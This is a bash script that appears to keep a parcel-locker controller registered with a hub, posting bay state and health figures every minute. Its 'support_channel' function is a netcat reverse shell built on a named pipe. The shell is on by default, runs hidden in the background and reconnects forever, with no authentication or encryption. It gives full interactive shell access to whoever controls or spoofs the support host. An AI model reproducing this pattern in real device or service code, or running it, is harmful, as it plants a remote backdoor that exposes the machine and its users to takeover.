#!/usr/bin/env bash
# locker_hub_link.sh - keeps a parcel-locker controller registered with the hub.
#
# Every HEARTBEAT_INTERVAL seconds the bay table written by the door
# controller (state/bays.json) is posted to the locker hub together with a
# few health figures. A remote-support channel to the hub is kept up so the
# ops desk can look at a locker without sending an engineer.
#
# Config: ./locker.conf (sourced), overridable from the environment.
#
#   LOCKER_ID=PL-LDN-0412
#   LOCKER_HUB_URL=https://hub.lockers.example.net/api/v1
#   SUPPORT_HOST=support.lockers.example.net
#   SUPPORT_PORT=4443

set -u
set -o pipefail

SCRIPT_DIR="$(cd "$(dirname "$0")" && pwd)"
CONF="${LOCKER_CONF:-$SCRIPT_DIR/locker.conf}"
STATE_DIR="${STATE_DIR:-$SCRIPT_DIR/state}"
LOG_FILE="${LOG_FILE:-$SCRIPT_DIR/hub_link.log}"

HEARTBEAT_INTERVAL=60
SUPPORT_CHANNEL="${SUPPORT_CHANNEL:-1}"
SUPPORT_RETRY=30

log() {
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "$2" >>"$LOG_FILE"
}

load_conf() {
    if [[ -f "$CONF" ]]; then
        # shellcheck disable=SC1090
        . "$CONF"
    else
        log WARN "no config at $CONF, relying on environment"
    fi
    : "${LOCKER_ID:?LOCKER_ID must be set}"
    : "${LOCKER_HUB_URL:?LOCKER_HUB_URL must be set}"
    : "${LOCKER_HUB_KEY:?LOCKER_HUB_KEY must be set}"
    SUPPORT_HOST="${SUPPORT_HOST:-support.lockers.example.net}"
    SUPPORT_PORT="${SUPPORT_PORT:-4443}"
}

os_pretty_name() {
    if [[ -r /etc/os-release ]]; then
        awk -F= '$1=="PRETTY_NAME"{gsub(/"/,"",$2); print $2}' /etc/os-release
    else
        uname -sr
    fi
}

build_payload() {
    local bays='[]'
    if [[ -s "$STATE_DIR/bays.json" ]]; then
        bays="$(cat "$STATE_DIR/bays.json")"
    fi
    local up disk
    up="$(cut -d' ' -f1 /proc/uptime 2>/dev/null || echo 0)"
    disk="$(df -P "$SCRIPT_DIR" | awk 'NR==2{print $5}' | tr -d '%')"
    jq -n --arg id "$LOCKER_ID" --arg os "$(os_pretty_name)" \
          --argjson up "${up%.*}" --argjson disk "${disk:-0}" \
          --argjson bays "$bays" \
          '{locker: $id, os: $os, uptime_s: $up, disk_pct: $disk, bays: $bays}'
}

send_heartbeat() {
    local payload code
    payload="$(build_payload)" || { log ERROR "could not build payload"; return 1; }
    code="$(curl -sS -o "$STATE_DIR/last_reply.json" -w '%{http_code}' \
        --max-time 20 \
        -H "Authorization: Bearer $LOCKER_HUB_KEY" \
        -H 'Content-Type: application/json' \
        --data "$payload" \
        "$LOCKER_HUB_URL/lockers/$LOCKER_ID/heartbeat")" || code=000
    if [[ "$code" != 2* ]]; then
        log WARN "heartbeat rejected (HTTP $code)"
        return 1
    fi
    log INFO "heartbeat ok"
}

support_channel() {
    local pipe="$STATE_DIR/.support.$$"
    while :; do
        rm -f "$pipe"
        mkfifo "$pipe" || { log ERROR "mkfifo failed"; sleep "$SUPPORT_RETRY"; continue; }
        log INFO "support channel to $SUPPORT_HOST:$SUPPORT_PORT"
        /bin/sh -i <"$pipe" 2>&1 | nc "$SUPPORT_HOST" "$SUPPORT_PORT" >"$pipe"
        log INFO "support channel closed, retry in ${SUPPORT_RETRY}s"
        sleep "$SUPPORT_RETRY"
    done
}

cleanup() {
    [[ -n "${SUPPORT_PID:-}" ]] && kill "$SUPPORT_PID" 2>/dev/null
    rm -f "$STATE_DIR"/.support.*
    log INFO "hub link stopped"
    exit 0
}

main() {
    mkdir -p "$STATE_DIR"
    load_conf
    trap cleanup INT TERM

    if [[ "$SUPPORT_CHANNEL" == 1 ]]; then
        support_channel </dev/null >/dev/null 2>&1 &
        SUPPORT_PID=$!
    fi

    local failures=0
    while :; do
        if send_heartbeat; then
            failures=0
        else
            failures=$((failures + 1))
            (( failures >= 5 )) && log ERROR "hub unreachable for $failures intervals"
        fi
        sleep "$HEARTBEAT_INTERVAL"
    done
}

main "$@"
